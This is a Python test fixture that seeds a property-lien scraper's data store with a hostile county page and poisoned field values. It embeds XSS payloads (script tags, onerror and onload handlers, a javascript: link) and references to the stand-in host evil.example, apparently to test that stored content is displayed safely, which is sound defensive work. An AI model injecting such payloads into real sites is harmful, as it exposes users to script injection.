"""A data folder with one of everything, some of it hostile."""

from __future__ import annotations

from pathlib import Path

from lienworker.data_folder import DataFolder
from lienworker.db.clock import now_ms, rfc3339
from lienworker.db.database import close, execute, open_store, write
from lienworker.outbox.outcomes import configure
from lienworker.outbox.registration import register_task
from lienworker.steps.drift import mask_of, take_in
from lienworker.store import tasks
from lienworker.store.history import History, Place, save_history
from lienworker.store.pages import PageRecord, save_page
from lienworker.store.raw_files import PageKey, put_in_place, write_aside
from lienworker.store.results import NewResult, save_result
from lienworker.store.tasks import NewTask

EVIL = '<script>document.title="owned"</script><img src=x onerror="document.title=\'owned\'">'
RAW = f"""<!doctype html><html><head><title>County</title>
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<link rel="preconnect" href="http://evil.example"><base href="http://evil.example/">
<script src="http://evil.example/x.js"></script><script>parent.document.title="owned"</script>
<style>body {{ background: url(http://evil.example/b.png) }}</style></head>
<body onload="parent.document.title='owned'"><h1>Parcel 7</h1><p>Site: 1 =MAIN ST</p>{EVIL}
<form action="http://evil.example/"><input name="q"><button>Go</button></form>
<iframe src="http://evil.example/"></iframe><img src="http://evil.example/p.png"><a href="javascript:alert(1)">l</a>
</body></html>"""
DOUBTS = [{"check": "code_in_text", "field": "owner_name", "detail": f"OWNER {EVIL}"}]
COMPLETED, FAILED, PARKED = "task-done", "task-failed", "task-parked"


def seed(root: Path) -> DataFolder:
    """Writes through the store's own functions, and leaves the database closed."""
    configure("ondemand")
    folder = open_store(root)
    paths = {}
    for name in (COMPLETED, FAILED, PARKED):
        place = {"platform": "demo", "state": "FL", "county": "Dixie", "parcel_id": f"7-{name}"}
        register_task(NewTask("local_file", f"http://county.example/{name}", task_id=name, **place))
        paths[name] = _page(folder, name)
    with write("seed"):
        execute("UPDATE outbox SET state = 'delivered', finished_at = ? WHERE topic = 'fetch'", (now_ms(),))
        for name in (COMPLETED, PARKED):
            _result(name, paths[name])
            tasks.mark_completed(name)
        tasks.mark_failed(FAILED, "captcha", f"The page says {EVIL}")
        _parked_rows()
        _history()
    close()
    return folder


def _page(folder: DataFolder, name: str) -> str:
    page = write_aside(folder, PageKey("demo", "FL", "Dixie", name, name), RAW.encode(), "text/html")
    put_in_place([page])
    path = str(page.path.relative_to(folder.root))
    with write("seed_page"):
        save_page(
            PageRecord(
                name, 1, path, page.sha256, page.size, f"http://county.example/{name}", 200, "text/html", "utf-8",
                None, None, rfc3339(), 120,
            )
        )  # fmt: skip
    return path


def _result(name: str, path: str) -> None:
    data = {"owner_name": f"OWNER {EVIL}", "total_due": 12.5, "property_address": "1 =MAIN ST"}
    save_result(
        NewResult(
            name, 1, f"7-{name}", "demo", "FL", "Dixie", data, f"pending/{name}.json", path, "0" * 64, rfc3339(),
            "demo/1", rfc3339(), 4, doubts=DOUBTS if name == COMPLETED else (),
        )
    )  # fmt: skip


def _history() -> None:
    """What the drift guard has seen of the county: the owner is missing lately."""
    place = Place("demo", "FL", "Dixie", "county.example")
    whole, bare = mask_of({"owner_name": 1, "property_address": 1, "total_due": 1}), mask_of({"property_address": 1})
    history = History()
    take_in(history, [whole] * 60 + [whole, bare] * 10)
    save_history(place, history)


def _parked_rows() -> None:
    sql = (
        "INSERT INTO outbox (topic, task_id, generation, queue, priority, state, due_at, reason, fingerprint,"
        " created_at)"
        " VALUES ('upload_raw', ?, ?, 'default', 3, 'parked', 0, 'gateway_refused', 'f1', ?)"
    )
    for generation in (1, 2, 3):
        row_id = execute(sql, (PARKED, generation, now_ms())).lastrowid
        execute(
            "INSERT INTO attempts (outbox_id, task_id, topic, at, reason, error)"
            " VALUES (?, ?, 'upload_raw', ?, 'gateway_refused', ?)",
            (row_id, PARKED, rfc3339(), f"422: {EVIL}"),
        )
    execute("INSERT INTO counters VALUES ('added', 'upload_raw', 3) ON CONFLICT DO UPDATE SET n = n + 3")
